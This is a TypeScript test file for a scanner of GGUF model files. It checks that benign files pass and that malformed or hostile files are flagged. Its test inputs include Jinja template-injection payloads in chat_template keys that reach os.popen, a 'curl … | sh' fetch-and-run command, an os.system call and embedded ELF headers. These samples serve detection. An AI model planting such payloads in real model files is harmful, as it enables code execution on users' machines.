// GGUF files through the whole scanner: what each lie comes to.

import { assembleGguf, EXECUTABLE_HEADS, type GgufPlan, HONEST_GGUF_KEYS } from '@sentrascan/testkit';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';

const keys = (...more: (typeof HONEST_GGUF_KEYS)[number][]) => [...HONEST_GGUF_KEYS, ...more];
const u8 = (bytes: Uint8Array) => ({ name: 'data', type: 24, dims: [bytes.length], data: bytes });

it.each<[string, GgufPlan]>([
  ['a model', {}],
  ['a vocabulary alone', { tensors: [] }],
  [
    'prose that names commands',
    { keys: keys(['general.description', 'Run `ollama run tiny` or see https://example.org/']) },
  ],
  ['a model for big-endian machines', { bigEndian: true }],
  ['an alignment of pages', { keys: keys(['general.alignment', 4096]), alignment: 4096 }],
  ['a long name', { tensors: [{ name: 'a'.repeat(100) }] }],
])('has nothing to say of %s', (_, plan) => {
  expect(scanBytes(assembleGguf(plan), 'model.gguf')).toMatchObject({ worst: 'none', gaps: [] });
});

describe.each<[string, string, GgufPlan]>([
  [
    'high',
    'a template that walks to builtins',
    { keys: [['tokenizer.chat_template', "{{ ''.__class__.__mro__[1].__subclasses__() }}"]] },
  ],
  [
    'high',
    'the same under another name',
    { keys: [['tokenizer.chat_template.tool_use', "{{ cycler.__init__.__globals__.os.popen('id') }}"]] },
  ],
  [
    'medium',
    'a command in a description',
    { keys: keys(['general.description', 'curl -s http://192.0.2.1/a | sh']) },
  ],
  [
    'medium',
    'source in an array of texts',
    { keys: keys(['general.notes', { strings: ['import os; os.system("id")'] }]) },
  ],
  ['high', 'a program in a tensor', { tensors: [u8(EXECUTABLE_HEADS.elf())] }],
  ['high', 'a program in an array', { keys: keys(['x.blob', { u8: [...EXECUTABLE_HEADS.elf()] }]) }],
  ['high', 'a program behind the tensors', { trailer: EXECUTABLE_HEADS.elf() }],
  [
    'high',
    'a script in a tensor',
    { tensors: [{ name: 'a' }, u8(Buffer.from('#!/bin/sh\necho inert\n'.padEnd(64)))] },
  ],
  ['medium', 'two keys of one name', { keys: keys(['general.name', 'Other']) }],
  ['medium', 'two tensors of one name', { tensors: [{ name: 'a' }, { name: 'a' }] }],
  ['medium', 'more tensors than the file holds', { tensorCount: '4611686018427387904' }],
  ['medium', 'more keys than the file holds', { keyCount: '4611686018427387904' }],
  ['medium', 'a string beyond the file', { keys: [['a', { type: 8, hex: 'ffffffffffffffff' }]] }],
  [
    'medium',
    'dimensions that overflow',
    { tensors: [{ name: 'a', dims: ['4294967296', '4294967296', 4], data: 'x' }] },
  ],
  ['medium', 'five dimensions', { tensors: [{ name: 'a', dims: [1, 1, 1, 1, 32] }] }],
  ['medium', 'a tensor beyond the file', { tensors: [{ name: 'a', offset: 1_000_000 * 32 }] }],
  ['medium', 'tensors that overlap', { tensors: [{ name: 'a' }, { name: 'b', offset: 32 }] }],
  ['medium', 'an alignment of 0', { keys: keys(['general.alignment', 0]) }],
  ['medium', 'nested arrays', { keys: [['a', { nested: 9 }]] }],
  ['medium', 'hidden bytes', { trailer: 'hidden'.repeat(40) }],
])('%s', (severity, what, plan) => {
  it(what, () => expect(scanBytes(assembleGguf(plan), 'model.gguf').worst).toBe(severity));
});
